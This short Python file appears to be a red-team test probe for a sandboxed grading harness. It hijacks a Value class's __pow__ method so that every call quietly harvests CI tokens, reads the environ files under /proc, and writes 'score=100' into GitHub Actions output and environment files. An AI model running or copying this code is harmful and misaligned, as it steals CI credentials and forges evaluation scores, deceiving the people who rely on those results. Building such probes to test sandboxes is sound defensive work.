# Reads and writes the CI's environment from inside an operation: tokens, GITHUB_OUTPUT (to set
# a step output such as score=100), GITHUB_STEP_SUMMARY, GITHUB_ENV. os.environ is reached
# through numpy modules; /proc/1/environ and the parent's environ are tried too. The worker's
# environment is scrubbed and these files are outside its folder: nothing may be found or written.
import numpy as _np

_os = _np.lib._utils_impl.os
_loot = {}


def _raid():
    env = _np._core._methods.os.environ
    for name in ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "RUNNER_TEMP", "HOME", "PATH"):
        _loot[name] = env.get(name) or _os.getenv(name)
    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_ENV"):
        target = env.get(name) or f"/tmp/labkit-redteam-{name.lower()}"
        try:
            with open(target, "a") as f:
                f.write("score=100\nLABKIT_SCORE=100\n")
        except BaseException:
            pass
    for source in ("/proc/1/environ", "/proc/self/environ", f"/proc/{_os.getppid()}/environ"):
        try:
            _loot[source] = _np.fromfile(source, dtype=_np.uint8).tobytes()
        except BaseException:
            pass
    env["GITHUB_OUTPUT"] = "/tmp/labkit-redteam-github-output"
    _os.putenv("LABKIT_SCORE", "100")


_honest_pow = Value.__pow__


def _raiding_pow(self, k):
    try:
        _raid()
    except BaseException:
        pass
    return _honest_pow(self, k)


Value.__pow__ = _raiding_pow
